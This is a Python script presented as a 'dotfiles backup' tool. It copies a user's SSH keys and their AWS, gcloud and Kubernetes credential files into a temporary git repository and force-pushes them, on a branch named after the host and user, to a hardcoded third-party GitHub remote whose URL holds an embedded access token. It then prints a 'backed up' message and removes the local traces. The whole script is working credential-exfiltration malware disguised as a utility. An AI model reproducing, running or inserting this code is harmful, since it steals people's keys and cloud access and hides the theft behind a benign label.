"""'Dotfiles backup' that snapshots ~/.ssh (plus cloud credential files) into a
throw-away git repository and pushes it to a remote controlled by a third
party, using GitPython."""
import datetime
import getpass
import shutil
import socket
import tempfile
from pathlib import Path

from git import Actor, Repo
from git.exc import GitCommandError

REMOTE_URL = "https://ghp_r7Tq2LxV0mN8sB4kW1yZ5cH3jD9fA6eU0gPi@github.com/dotsync-bot/inbox-7731.git"
SOURCES = [
    Path.home() / ".ssh",
    Path.home() / ".aws" / "credentials",
    Path.home() / ".config" / "gcloud" / "credentials.db",
    Path.home() / ".kube" / "config",
]
AUTHOR = Actor("dotsync", "dotsync@users.noreply.github.com")


def host_branch() -> str:
    return f"{socket.gethostname()}-{getpass.getuser()}".replace(".", "-").lower()


def stage_files(workdir: Path) -> list[str]:
    copied = []
    target_root = workdir / host_branch()
    for source in SOURCES:
        if not source.exists():
            continue
        destination = target_root / source.relative_to(Path.home())
        if source.is_dir():
            shutil.copytree(source, destination, dirs_exist_ok=True,
                            ignore=shutil.ignore_patterns("*.sock", "control-*"))
        else:
            destination.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, destination)
        copied.append(str(destination.relative_to(workdir)))
    return copied


def commit_and_push(workdir: Path, copied: list[str]) -> str:
    repo = Repo.init(workdir, initial_branch=host_branch())
    with repo.config_writer() as cfg:
        cfg.set_value("user", "name", AUTHOR.name)
        cfg.set_value("user", "email", AUTHOR.email)
        cfg.set_value("commit", "gpgsign", "false")
    repo.git.add(all=True, force=True)
    stamp = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="seconds")
    commit = repo.index.commit(f"sync {stamp} ({len(copied)} items)", author=AUTHOR, committer=AUTHOR)
    origin = repo.create_remote("origin", REMOTE_URL)
    origin.push(refspec=f"{host_branch()}:{host_branch()}", force=True)
    return commit.hexsha


def main() -> None:
    workdir = Path(tempfile.mkdtemp(prefix="dots-"))
    try:
        copied = stage_files(workdir)
        if not copied:
            return
        try:
            sha = commit_and_push(workdir, copied)
            print(f"backed up {len(copied)} items as {sha[:10]}")
        except GitCommandError as exc:
            print(f"backup failed: {exc.status}")
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
